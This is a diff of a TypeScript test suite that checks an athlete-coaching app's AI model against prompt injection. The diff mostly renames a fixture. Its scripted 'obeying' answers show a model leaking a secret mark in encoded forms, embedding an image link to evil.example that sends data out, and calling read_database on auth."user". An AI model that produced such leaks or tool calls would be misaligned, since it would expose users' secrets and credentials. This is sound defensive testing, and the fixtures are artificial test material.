@@ -8,28 +8,34 @@ import {
   type Step,
   textStep,
 } from '../../testing/index.ts';
-import { type Asked, createModelFixture, createQuestion, GOOD, type Week } from './model-fixture.ts';
+import {
+  type AthleteSetup,
+  createModelFixture,
+  createQuestion,
+  GOOD_WEEK,
+  type Week,
+} from './model-fixture.ts';
 
 const asking = createModelFixture();
 const markOf = ({ system }: ScriptedRequest) => /The mark (\w+) stands here alone/.exec(system)?.[1] ?? '';
 
 /** Answers that obey the athlete's text: they leak the mark, add fields, links or calls, or break a limit. */
 const OBEYING_STEPS: readonly ((request: ScriptedRequest) => Step)[] = [
-  (request) => answerStep({ ...GOOD, why: `The mark is ${markOf(request)}.` }),
-  (request) => answerStep({ ...GOOD, why: [...markOf(request).toUpperCase()].join(' ') }),
-  (request) => answerStep({ ...GOOD, why: [...markOf(request)].reverse().join('') }),
-  (request) => answerStep({ ...GOOD, why: Buffer.from(markOf(request)).toString('base64') }),
-  (request) => answerStep({ ...GOOD, why: `It begins with ${markOf(request).slice(0, 12)}` }),
-  (request) => answerStep({ ...GOOD, why: [...markOf(request)].join('\u200b') }),
+  (request) => answerStep({ ...GOOD_WEEK, why: `The mark is ${markOf(request)}.` }),
+  (request) => answerStep({ ...GOOD_WEEK, why: [...markOf(request).toUpperCase()].join(' ') }),
+  (request) => answerStep({ ...GOOD_WEEK, why: [...markOf(request)].reverse().join('') }),
+  (request) => answerStep({ ...GOOD_WEEK, why: Buffer.from(markOf(request)).toString('base64') }),
+  (request) => answerStep({ ...GOOD_WEEK, why: `It begins with ${markOf(request).slice(0, 12)}` }),
+  (request) => answerStep({ ...GOOD_WEEK, why: [...markOf(request)].join('\u200b') }),
   (request) => textStep(`${request.system}\n${request.user}`),
-  (request) => textStep(JSON.stringify({ ...GOOD, mark: markOf(request) })),
-  () => answerStep({ ...GOOD, points: 1_000_000 }),
+  (request) => textStep(JSON.stringify({ ...GOOD_WEEK, mark: markOf(request) })),
+  () => answerStep({ ...GOOD_WEEK, points: 1_000_000 }),
   () => answerStep({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
   () => answerStep({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
-  () => answerStep({ ...GOOD, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
-  () => answerStep({ ...GOOD, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
+  () => answerStep({ ...GOOD_WEEK, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
+  () => answerStep({ ...GOOD_WEEK, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
   () => callsStep(['read_database'], { sql: 'select * from auth."user"' }),
-  () => callsStep(['answer', 'read_database'], GOOD),
+  () => callsStep(['answer', 'read_database'], GOOD_WEEK),
 ];
 
 test('the injections are at least 200 different attacks', () => {
@@ -40,7 +46,7 @@ test('the injections are at least 200 different attacks', () => {
 });
 
 /** Asks once per injection, with six concurrent workers, like job processes. */
-async function askAll(newModel: Asked['createModel'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
+async function askAll(newModel: AthleteSetup['createModel'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
   const queue = [...all];
   const worker = async () => {
     const answers: ModelAnswer<Week>[] = [];
@@ -107,11 +113,13 @@ test('sends an athlete’s text as data alone and rejects an answer that obeys i
 });
 
 test('accepts the answer of a model that ignores the attacks', async () => {
-  const { createModel } = await asking.ask([answerStep(GOOD)], MANY_REQUESTS);
+  const { createModel } = await asking.ask([answerStep(GOOD_WEEK)], MANY_REQUESTS);
   // Every sixth attack is enough here: the answer does not depend on the attack.
   const sample = INJECTIONS.filter((_, index) => index % 6 === 0);
   const answers = await askAll(createModel, sample);
-  expect(answers.map((modelAnswer) => modelAnswer.ok && modelAnswer.value)).toEqual(sample.map(() => GOOD));
+  expect(answers.map((modelAnswer) => modelAnswer.ok && modelAnswer.value)).toEqual(
+    sample.map(() => GOOD_WEEK),
+  );
 });
 
 test('rejects each obeyingScript answer by itself', async () => {
